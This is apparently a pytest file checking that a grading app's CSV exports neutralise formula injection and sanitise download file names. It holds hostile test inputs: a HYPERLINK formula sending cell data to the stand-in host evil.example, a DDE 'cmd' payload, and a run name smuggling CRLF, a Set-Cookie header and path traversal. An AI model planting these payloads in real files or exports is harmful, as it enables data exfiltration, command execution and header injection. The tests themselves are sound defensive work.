"""Every CSV export neutralises formulas and names its download safely (issue 33, "CSV formulas")."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session
from typer.testing import CliRunner

from tests.checks.conftest import drafts_a, drafts_b
from tests.factories import make_article, make_dataset, make_run
from tests.grading.conftest import GradingWorld, build_world, grade
from webapp.app import cli as root
from webapp.checks import service as checks_service
from webapp.core.csv_export import attachment_headers, csv_text, safe_cell
from webapp.core.spec import EvalSpec

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
EVIL_RUN = 'q4 "final"; x=1\r\nSet-Cookie: a=b/../..\\été'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-1e5", "'-1e5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("plain text = fine", "plain text = fine"),
        ("-3.25", "-3.25"),  # a number written as text (a figure in its unit): still a number
        ("+7", "+7"),
        (-3, -3),
        (-0.5, -0.5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (None, ""),
    ],
)
def test_safe_cell_quotes_formula_text_and_keeps_numbers(value: object, written: object) -> None:
    assert safe_cell(value) == written  # type: ignore[arg-type]


def test_csv_text_round_trips_the_neutralised_cells() -> None:
    text = csv_text(["case_id", "delta"], [[EVIL, -0.25], ["ok", 3]])
    assert _rows(text) == [["case_id", "delta"], ["'" + EVIL, "-0.25"], ["ok", "3"]]


def test_download_names_are_safe() -> None:
    value = attachment_headers(f"compare-{EVIL_RUN}-b.csv")["Content-Disposition"]
    fallback = value.split('filename="', 1)[1].split('"', 1)[0]
    assert all(ch.isalnum() or ch in "._-" for ch in fallback) and fallback.endswith(".csv")
    assert "\r" not in value and "\n" not in value and value.count('"') == 2
    assert "filename*=UTF-8''" in value
    full = unquote(value.split("filename*=UTF-8''", 1)[1])
    assert "été" in full and not any(ch in full for ch in '"/\\\r\n;')
    assert attachment_headers("final-grades-3.csv") == {"Content-Disposition": 'attachment; filename="final-grades-3.csv"'}


@pytest.fixture
def graded(session: Session, spec: EvalSpec) -> GradingWorld:
    """The grading world with draft 0 finally graded; Alice's rationale is a formula."""
    world = build_world(session)
    grade(session, spec, world, world.alice, rationale=EVIL)
    grade(session, spec, world, world.bob, rationale="-2+3 looks fine")
    session.commit()
    return world


def test_final_grades_csv_neutralises_rationales(graded: GradingWorld, api_as: Callable[..., TestClient]) -> None:
    r = api_as("lead").get(f"/api/v1/grading/runs/{graded.run.id}/final-grades", params={"format": "csv"})
    assert r.status_code == 200
    header, row = _rows(r.text)
    cells = dict(zip(header, row, strict=True))
    assert cells["grader_1_rationale"] == "'" + EVIL and cells["grader_2_rationale"] == "'-2+3 looks fine"
    assert cells["final_tone"] == "4.0" and cells["grader_1_tone"] == "4"  # numbers stay numbers
    assert not any(c.startswith(("=", "+", "@")) for c in row)
    assert r.headers["content-disposition"] == f'attachment; filename="final-grades-{graded.run.id}.csv"'


def test_final_grades_csv_from_the_command_line(graded: GradingWorld, tmp_path: Path, settings) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "final.csv"
    result = CliRunner().invoke(root.app, ["grading", "export", str(graded.run.id), str(out)],
                                env={"DRAFTDESK_DATABASE_URL": settings.database_url})
    assert result.exit_code == 0, result.output
    header, row = _rows(out.read_text())
    assert dict(zip(header, row, strict=True))["grader_1_rationale"] == "'" + EVIL


def test_comparison_csv_neutralises_case_ids_and_names_the_download_safely(
    session: Session, spec: EvalSpec, client_as: Callable[..., TestClient], api_as: Callable[..., TestClient]
) -> None:
    make_article(session, "KB-1042", [(1, "current")])
    make_article(session, "KB-3001", [(2, "deprecated"), (4, "current")])
    ids = {"g1": EVIL, "r1": "@cmd", "r2": "-2+3"}
    cases = [{"case_id": ids.get(c, c), "category": "routine", "intent": "billing_charge"} for c in ("g1", "r1", "r2", "r3")]
    ds = make_dataset(session, cases)
    a = make_run(session, ds, [{**d, "case_id": ids.get(d["case_id"], d["case_id"])} for d in drafts_a()[:4]], name="run-a")
    b = make_run(session, ds, [{**d, "case_id": ids.get(d["case_id"], d["case_id"])} for d in drafts_b()[:4]], name=EVIL_RUN)
    for run in (a, b):
        checks_service.check_run(session=session, spec=spec, run_id=run.id)  # type: ignore[arg-type]
    session.commit()
    for r in (
        api_as("pm").get("/api/v1/runs/compare", params={"a": "run-a", "b": str(b.id), "format": "csv"}),
        client_as("pm").get("/runs/compare", params={"a": "run-a", "b": str(b.id), "format": "csv"}),
    ):
        assert r.status_code == 200, r.text
        first_cells = [row[0] for row in _rows(r.text)[1:]]
        assert sorted(first_cells) == sorted(["'" + EVIL, "'@cmd", "'-2+3", "r3"])
        disposition = r.headers["content-disposition"]
        assert "\n" not in disposition and "Set-Cookie" not in r.headers.get("set-cookie", "")
        fallback = disposition.split('filename="', 1)[1].split('"', 1)[0]
        assert fallback.startswith("compare-run-a-q4_final_x_1") and all(ch.isalnum() or ch in "._-" for ch in fallback)
        assert "filename*=UTF-8''" in disposition and "%C3%A9t%C3%A9" in disposition
